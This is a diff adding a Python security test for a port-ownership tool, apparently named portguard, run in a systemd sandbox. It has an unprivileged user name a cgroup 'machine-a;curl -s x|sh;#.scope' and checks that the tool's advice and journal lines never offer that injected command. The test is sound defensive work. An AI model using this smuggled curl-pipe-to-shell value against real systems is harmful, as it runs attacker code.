@@ -1,0 +1,91 @@
+"""Hostile local users, for real: what an unprivileged user names, in the systemd sandbox.
+
+Each test stages an attack as a local user can (docs/security.md, "Hostile local users")
+and asserts what the administrator cares about: no advice line of `who`, `status`,
+`preflight` or `why` offers a command carrying the attacker's text, the wrong container is
+never named, commands return within a bound, nothing is signalled.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import shlex
+from pathlib import Path
+
+from cases import Case, config
+from sandbox import LISTENER
+
+INJECTION = "machine-a;curl -s x|sh;#.scope"
+NOBODY = 65534
+SYSTEM_PYTHON = "/usr/bin/python3"  # for User= units: the venv may be unreadable to them
+
+
+def offered_commands(text: str) -> list[str]:
+    """Every command a person is offered to paste: `...` in prose, `$ ...` lines."""
+    found = re.findall(r"`([^`]*)`", text)
+    found += [line.split("$ ", 1)[1] for line in text.splitlines()
+              if line.lstrip().startswith("$ ")]
+    return found
+
+
+def assert_no_injected_command(text: str) -> None:
+    assert "machinectl" not in text, text
+    for cmd in offered_commands(text):
+        lexer = shlex.shlex(cmd, posix=True, punctuation_chars=True)
+        tokens = list(lexer)
+        assert {t for t in tokens if set(t) <= set("();<>|&")} <= {"&&"}, cmd
+        assert "curl" not in tokens and "sh" not in tokens, cmd
+
+
+def users_listener(case: Case, port: int) -> tuple[str, int]:
+    """A user's manager stand-in (`user@65534.service`, Delegate=yes, User=nobody) whose
+    listener the user itself moves into a sub-cgroup it names `machine-a;curl...`."""
+    sb = case.sb
+    listener = f"/run/listener-{case.uid}.py"
+    sb.write_file(listener, Path(LISTENER).read_text(), mode=0o644)
+    manager = f"user@{NOBODY}.service"
+    sb.write_unit(manager, f"[Service]\nUser=nobody\nDelegate=yes\nSlice=user-{NOBODY}.slice\n"
+                           f"ExecStart={SYSTEM_PYTHON} {listener} --port {port}\n")
+    case.units.append(manager)
+    pid = case.start_listening(manager, port)
+    base = f"/sys/fs/cgroup/user.slice/user-{NOBODY}.slice/{manager}"
+    # as the user, in its own delegated subtree: no privilege needed
+    moved = sb.run(["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups",
+                    "sh", "-c", 'mkdir "$1" && echo "$2" > "$1/cgroup.procs"', "sh",
+                    f"{base}/{INJECTION}", str(pid)])
+    assert moved.returncode == 0, moved.stderr
+    assert sb.cgroup_of(pid) == f"/user.slice/user-{NOBODY}.slice/{manager}/{INJECTION}"
+    return manager, pid
+
+
+def test_a_cgroup_named_like_a_machine_in_a_users_subtree_is_no_container(case: Case
+                                                                         ) -> None:
+    port = case.port()
+    manager, pid = users_listener(case, port)
+    web = case.unit(f"web-{case.uid}.service", "--port", str(port), guarded=False)
+    case.config(config(port, web))
+
+    who = case.sb.portguard("who", str(port))
+    assert who.returncode == 1 and str(pid) in who.stdout, who.stdout + who.stderr
+    assert "CONTAINER" not in who.stdout
+    who_json = case.sb.portguard("--json", "who", str(port))
+    [holder] = json.loads(who_json.stdout)["ports"][0]["holders"]
+    assert (holder["pid"], holder["unit"], holder["container"]) == (pid, manager, None)
+
+    preflight = case.preflight(web, "--dry-run")
+    assert preflight.returncode == 1, preflight.stdout + preflight.stderr
+    status = case.sb.portguard("--config", case.cfg, "status")
+    # the unit's own start fails to bind, for real: `why` reads that
+    case.start(web)
+    case.sb.wait_unit_state(web, "failed", timeout=20)
+    why = case.sb.portguard("--config", case.cfg, "why", web, timeout=60)
+    assert why.returncode == 1, why.stdout + why.stderr
+    assert str(pid) in why.stdout
+    for done in (who, preflight, status, why):
+        assert_no_injected_command(done.stdout + done.stderr)
+    # and what portguard journaled for the refusal
+    for record in case.records():
+        assert_no_injected_command(record.get("MESSAGE", ""))
+        assert "PORTGUARD_HOLDER_CONTAINER" not in record
+    assert case.sb.pid_alive(pid)  # a foreign holder: never touched
